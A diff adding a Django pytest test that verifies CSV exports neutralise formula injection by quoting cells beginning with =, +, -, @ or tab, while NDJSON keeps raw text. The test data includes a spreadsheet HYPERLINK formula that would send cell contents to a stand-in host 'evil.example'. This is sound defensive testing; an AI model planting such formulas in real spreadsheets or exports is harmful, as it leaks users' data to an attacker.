@@ -291,6 +291,41 @@ def test_quotes_commas_and_newlines_round_trip(client):
     assert awkward in statement_row
 
 
+@pytest.mark.django_db
+def test_csv_cells_a_spreadsheet_would_run_get_a_quote_and_ndjson_keeps_them(client):
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    text = '+1 more. @everyone. - a dash. \'quoted. "Said". \tTab. =A1'
+    statement = StatementFactory(
+        text=text, title="@SUM(A1:A9)", speaker__name=formula, publisher="-2+3"
+    )
+    sentences = [(0, 8), (9, 19), (20, 29), (30, 38), (39, 46), (47, 52)]
+    for start, end in sentences:
+        QuoteFactory(statement=statement, spans=[(start, end)])
+
+    header, *rows = csv_rows(client.get(export_url("quotes", "csv")))
+    cells = [dict(zip(header, row, strict=True)) for row in rows]
+    records = ndjson_records(client.get(export_url("quotes", "ndjson")))
+
+    assert [c["text"] for c in cells] == [
+        "'+1 more.",
+        "'@everyone.",
+        "'- a dash.",
+        "''quoted.",
+        '"Said".',
+        "'\tTab.",
+    ]
+    assert {c["speaker_name"] for c in cells} == {"'" + formula}
+    assert {c["statement_title"] for c in cells} == {"'@SUM(A1:A9)"}
+    assert [r["text"] for r in records] == [text[s:e] for s, e in sentences]
+    assert {r["speaker"]["name"] for r in records} == {formula}
+    header, row = csv_rows(client.get(export_url("speakers", "csv")))
+    assert dict(zip(header, row, strict=True))["name"] == "'" + formula
+    header, row = csv_rows(client.get(export_url("statements", "csv")))
+    statement_cells = dict(zip(header, row, strict=True))
+    assert statement_cells["publisher"] == "'-2+3"
+    assert statement_cells["text"] == "'" + text
+
+
 # --- Queries and memory --------------------------------------------------------------
 
 
